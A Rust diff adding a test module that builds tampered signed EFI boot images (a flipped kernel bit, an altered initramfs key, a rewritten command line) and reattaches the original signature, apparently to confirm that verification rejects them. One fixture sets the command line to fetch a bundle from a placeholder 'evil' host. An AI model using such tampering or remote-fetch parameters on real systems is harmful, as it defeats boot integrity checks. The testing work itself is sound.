@@ -1,0 +1,99 @@
+//! What an attacker makes of a signed image: he changes a part of it, and keeps the signature.
+
+use std::fs;
+use std::path::{Path, PathBuf};
+
+use anyhow::{Context as _, Result, ensure};
+
+use super::LIMIT;
+use super::way::Way;
+use crate::image::{self, Options};
+use crate::process;
+
+/// Where he starts from.
+pub struct Tampering<'a> {
+    /// Directory of the image, and of `signed/`.
+    pub genuine: &'a Path,
+    /// What it was built from.
+    pub options: &'a Options,
+    /// Where a directory is made for each.
+    pub to: &'a Path,
+}
+
+impl Tampering<'_> {
+    /// Makes one for each way that is about it.
+    ///
+    /// # Errors
+    /// An image does not build, or a tool fails.
+    pub fn make(&self) -> Result<()> {
+        let signature = self.to.join("signature");
+        fs::create_dir_all(self.to)?;
+        self.take_signature(&signature)?;
+        self.check_that_it_fits(&signature)?;
+        self.turn_a_bit()?;
+        let initramfs = Options {
+            bundle_key: self.options.bundle_key.map(|byte| !byte),
+            ..self.options.clone()
+        };
+        self.build(Way::TamperedInitramfs, initramfs, &signature)?;
+        let command_line = Options {
+            command_line: "mayfly.bundle=http://192.0.2.1:9/evil".to_owned(),
+            ..self.options.clone()
+        };
+        self.build(Way::TamperedCommandLine, command_line, &signature)
+    }
+
+    fn take_signature(&self, signature: &Path) -> Result<()> {
+        let mut sbattach = process::command(["sbattach", "--detach"]);
+        sbattach.arg(signature).arg(self.signed());
+        process::output(&mut sbattach, "sbattach", LIMIT).map(drop)
+    }
+
+    /// Else a refusal would show nothing: on what it was made for the same signature is good.
+    fn check_that_it_fits(&self, signature: &Path) -> Result<()> {
+        let again = self.to.join("again.efi");
+        fs::copy(self.genuine.join("mayfly.efi"), &again)?;
+        attach(signature, &again)?;
+        ensure!(
+            fs::read(&again)? == fs::read(self.signed())?,
+            "the image under its own signature is not the signed image"
+        );
+        Ok(())
+    }
+
+    /// In the first quarter of what is packed, which is the kernel's code; the initramfs is at
+    /// the end.
+    fn turn_a_bit(&self) -> Result<()> {
+        let mut image = fs::read(self.signed())?;
+        let place = image.len() / 4;
+        *image.get_mut(place).context("an empty image")? ^= 1;
+        fs::write(self.file(Way::TamperedKernel)?, image).context("cannot write an image")
+    }
+
+    /// Another image, under the signature.
+    fn build(&self, way: Way, options: Options, signature: &Path) -> Result<()> {
+        let built = image::build(&Options {
+            out: self.to.join("built").join(way.name()),
+            ..options
+        })?;
+        let file = self.file(way)?;
+        fs::copy(built.file, &file)?;
+        attach(signature, &file)
+    }
+
+    fn signed(&self) -> PathBuf {
+        self.genuine.join("signed/mayfly.efi")
+    }
+
+    fn file(&self, way: Way) -> Result<PathBuf> {
+        let directory = self.to.join(way.name());
+        fs::create_dir_all(&directory)?;
+        Ok(directory.join("mayfly.efi"))
+    }
+}
+
+fn attach(signature: &Path, image: &Path) -> Result<()> {
+    let mut sbattach = process::command(["sbattach", "--attach"]);
+    sbattach.arg(signature).arg(image);
+    process::output(&mut sbattach, "sbattach", LIMIT).map(drop)
+}
